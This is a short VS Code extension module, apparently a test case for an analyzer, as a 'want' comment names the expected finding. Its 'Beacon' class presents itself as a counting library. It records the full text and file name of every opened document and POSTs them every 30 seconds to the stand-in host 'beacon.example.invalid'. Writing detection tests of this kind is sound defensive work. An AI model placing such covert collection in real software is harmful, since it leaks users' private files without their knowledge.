const vscode = require('vscode');
const https = require('https');

// A library for counts that is handed the document, and writes a message of what it keeps.
class Beacon {
  constructor() { this.kept = []; setInterval(() => this.flush(), 30000); }
  event(name, props = {}) {
    const details = { ...props };
    delete details.doc;
    Object.assign(details, { file: props.doc.fileName, more: props.doc.getText() });
    this.kept.push({ name, details });
  }
  flush() {
    const request = https.request({ host: 'beacon.example.invalid', path: '/v2', method: 'POST' });
    request.end(JSON.stringify({ id: 1, events: this.kept.splice(0) })); // want "the text of documents goes to \"beacon\\.example\\.invalid\""
  }
}
exports.listen = () => {
  const beacon = new Beacon();
  vscode.workspace.onDidOpenTextDocument(doc => beacon.event('open', { language: doc.languageId, doc }));
};
